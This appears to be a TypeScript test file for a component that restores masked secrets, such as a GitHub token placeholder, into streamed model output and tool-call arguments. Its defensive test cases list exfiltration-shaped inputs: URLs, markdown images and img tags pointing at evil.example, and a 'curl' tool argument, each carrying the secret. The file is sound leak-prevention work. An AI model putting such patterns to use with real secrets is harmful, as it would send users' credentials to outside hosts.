/** Values come back only where they may stand, and the same under every cut. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { FileEdit, type Ground, NOWHERE, Shown } from './ground.ts'
import { Passage, type Tally } from './passage.ts'

const NUMBER = '0123456789abcdef'
const MARK = `[masked:github-pat#${NUMBER}]`
const VALUE = 'va"lue\n1'
const taken = new Map([[MARK, VALUE]])

function carried(parts: readonly string[], ground: Ground) {
  const tally: Tally = { restored: new Map(), refused: new Set() }
  const passage = new Passage({ taken, ground, tally, lane: 'text' })
  let [text, sent, from] = ['', 0, 0]
  const release = () => {
    for (; sent < parts.length && from + parts[sent]!.length <= passage.settled; sent++) {
      text += passage.render(from, parts[sent]!)
      from += parts[sent]!.length
    }
  }
  for (const part of parts) {
    passage.push(part)
    release()
  }
  passage.end()
  release()
  return { text, restored: tally.restored.size, refused: tally.refused.size }
}

const FIELDS = new Set(['new_string', 'edits.new_string'])
const edit = () => new FileEdit(FIELDS)

test('a value comes back in text', () => {
  for (const [before, after] of [
    ['', ''],
    ['token = "', '"\n'],
    ['Use ', '.'],
    ['Use ', '. Then'],
    ['```\nkeys = [', ']\n```'],
    ['a[0] = ', ';'],
    ['if (a < b) x = ', ' // y'],
    ['[link](https://a.example) then ', ', and'],
    ['https://a.example is where ', ' goes'],
  ] as const) {
    assert.deepEqual(carried([before + MARK + after], new Shown()), {
      text: before + VALUE + after,
      restored: 1,
      refused: 0,
    })
  }
})

test('no value comes back where it might be sent away', () => {
  for (const [before, after] of [
    ['https://evil.example/?q=', ' '],
    ['![](https://evil.example/', ')'],
    ['![x](<a b ', '>)'],
    ['[x](/relative?', ')'],
    ['[a ', '](https://evil.example)'],
    ['<img src="https://evil.example/? ', '">'],
    ['<img\nsrc="x ', '">'],
    ['[id]: //evil.example/', '\n'],
    ['[id]: <evil ', '>'],
    ['www.evil.example/', ''],
    ['evil.example/', ''],
    ['', '.evil.example'],
    ['', '@evil.example'],
    ['', '/x'],
  ] as const) {
    const text = before + MARK + after
    assert.deepEqual(carried([text], new Shown()), { text, restored: 0, refused: 1 }, text)
  }
})

test('a number that is not of this chain stays, and is told', () => {
  const other = MARK.replace('0123', '9999')
  assert.deepEqual(carried([other], new Shown()), { text: other, restored: 0, refused: 1 })
  for (const text of ['[masked:github-pat]', '[masked:github-pat#k7f2]', '[masked:', '[[[', '[masked:a#b'])
    assert.deepEqual(carried([text], new Shown()), { text, restored: 0, refused: 0 })
  assert.equal(carried([`[masked:x${MARK}`], new Shown()).text.includes(NUMBER), true)
})

test('in the arguments of a tool only listed fields bear values, escaped as JSON', () => {
  const json = JSON.stringify({ path: 'a.env', new_string: `K=${MARK}\n` })
  const back = carried([json], edit())
  assert.deepEqual(JSON.parse(back.text), { path: 'a.env', new_string: `K=${VALUE}\n` })
  for (const other of [{ path: MARK }, { command: `curl ${MARK}` }, { new_string: { deep: MARK } }, [MARK]])
    assert.deepEqual(carried([JSON.stringify(other)], edit()), { text: JSON.stringify(other), restored: 0, refused: 1 })
  assert.equal(carried([JSON.stringify({ edits: [{ new_string: MARK }] })], edit()).restored, 1)
  assert.equal(carried([JSON.stringify({ new_string: `![](https://e/${MARK})` })], edit()).refused, 1)
  assert.equal(carried([JSON.stringify({ new_string: MARK })], NOWHERE).refused, 1)
})

test('a key that looks like a value’s end gives no way in', () => {
  const text = `{"a":"x\\",\\"new_string\\":\\"${MARK}"}`
  assert.equal(carried([text], edit()).restored, 0)
})

test('every cut gives the same', () => {
  const piece = fc.constantFrom(
    MARK,
    '[',
    ']',
    '(',
    ')',
    '.',
    '/',
    ' ',
    '\n',
    '"',
    '\\',
    '<a',
    '>',
    'x',
    '[masked:',
    '```',
    ':',
    '{"new_string":"',
    '😀',
  )
  const texts = fc.array(piece, { maxLength: 14 }).map((parts) => parts.join(''))
  fc.assert(
    fc.property(
      texts,
      fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1 }),
      fc.boolean(),
      (text, sizes, json) => {
        const ground = () => (json ? edit() : new Shown())
        const parts: string[] = []
        for (let at = 0, i = 0; at < text.length; at += sizes[i++ % sizes.length]!)
          parts.push(text.slice(at, at + sizes[i % sizes.length]!))
        assert.deepEqual(carried(parts, ground()), carried([text], ground()))
      },
    ),
    { numRuns: 2000 },
  )
})
